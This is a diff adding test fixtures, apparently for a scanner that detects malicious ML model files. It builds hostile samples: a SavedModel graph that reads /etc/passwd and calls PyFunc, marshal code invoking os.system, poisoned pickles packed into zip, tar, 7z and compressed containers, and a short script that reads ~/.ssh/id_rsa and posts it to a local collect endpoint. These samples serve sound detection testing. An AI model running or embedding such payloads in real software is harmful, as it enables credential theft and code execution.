@@ -171,9 +171,109 @@ def keras_config_seeds() -> tuple[bytes, ...]:
 
 
 @functools.cache
+def savedmodel_seeds() -> tuple[bytes, ...]:
+    """``saved_model.pb`` graphs (hand-encoded): an ordinary one and one whose ops read a credential
+    file and call a ``PyFunc``."""
+    from tests.keras.protowire import node_def, saved_model, string_attr, string_tensor_attr
+
+    plain = [node_def("x", "Placeholder"), node_def("w", "VarHandleOp"), node_def("y", "MatMul", ("x", "w"))]
+    evil = [
+        *plain,
+        node_def("path", "Const", attrs={"value": string_tensor_attr("/etc/passwd")}),
+        node_def("leak", "ReadFile", ("path",)),
+        node_def("py", "PyFunc", attrs={"token": string_attr("pyfunc_0")}),
+    ]
+    return (saved_model(plain, functions={"__inference_call_1": plain}), saved_model(evil))
+
+
+@functools.cache
 def marshal_seeds() -> tuple[bytes, ...]:
     from tests.builders.marshal_code import code_bytes, compile_lambda
 
     code = compile_lambda(f"__import__('os').system({sentinel_command('marshal')!r}) or x", filename="<stdin>")
     plain = compile_lambda("x * 2 + 1", filename="<stdin>")
     return tuple(code_bytes(c, version) for c in (code, plain) for version in ((3, 11), (3, 8)))
+
+
+# --- containers ----------------------------------------------------------------------------------
+
+WRAPPERS = ("zip", "zip-deflate", "tar", "7z", "gzip", "bz2", "xz", "lz4", "zlib")
+
+
+def wrap(kind: str, data: bytes, name: str = "model.pkl") -> bytes:
+    """``data`` inside a container a loader opens (torch.load, joblib.load, np.load, tarfile...)."""
+    import bz2
+    import lzma
+    import tarfile
+    import zipfile
+    import zlib
+
+    from tests.builders.wrappers import gzipped, sevenzip, zip_of
+
+    if kind == "zip":
+        return zip_of({name: data})
+    if kind == "zip-deflate":
+        return zip_of({"README.md": b"weights\n", name: data}, compression=zipfile.ZIP_DEFLATED)
+    if kind == "tar":
+        buf = io.BytesIO()
+        with tarfile.open(fileobj=buf, mode="w") as tar:
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+        return buf.getvalue()
+    if kind == "7z":
+        return sevenzip(name, data)
+    if kind == "gzip":
+        return gzipped(data)
+    if kind == "bz2":
+        return bz2.compress(data)
+    if kind == "xz":
+        return lzma.compress(data)
+    if kind == "lz4":
+        import lz4.frame
+
+        return bytes(lz4.frame.compress(data))
+    if kind == "zlib":
+        return zlib.compress(data)
+    raise ValueError(kind)
+
+
+@functools.cache
+def container_seeds() -> tuple[bytes, ...]:
+    from tests.builders.torchfiles import poisoned_torch_zip
+
+    evil = malicious_pickles()[1]
+    torch_zip = poisoned_torch_zip("archive", [malicious_calls()[0]])
+    return (torch_zip, *(wrap(kind, evil) for kind in WRAPPERS), wrap("zip", torch_zip, "inner/model.bin"))
+
+
+# --- Python --------------------------------------------------------------------------------------
+
+
+def malicious_script() -> str:
+    from tests.builders.evasions import loading_script_running
+
+    return loading_script_running(sentinel_command("script"))
+
+
+@functools.cache
+def python_seeds() -> tuple[bytes, ...]:
+    from tests.builders import payloads
+    from tests.builders.benign import DATASET_SCRIPT, MODELING_SCRIPT
+
+    stealer = (
+        "import os, requests\n"
+        "token = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+        "requests.post('http://127.0.0.1/collect', data=token)\n"
+    )
+    return tuple(
+        s.encode()
+        for s in (
+            DATASET_SCRIPT,
+            MODELING_SCRIPT,
+            malicious_script(),
+            stealer,
+            payloads.YOUAREHACKED,
+            payloads.WALK_REMOVE,
+        )
+    )
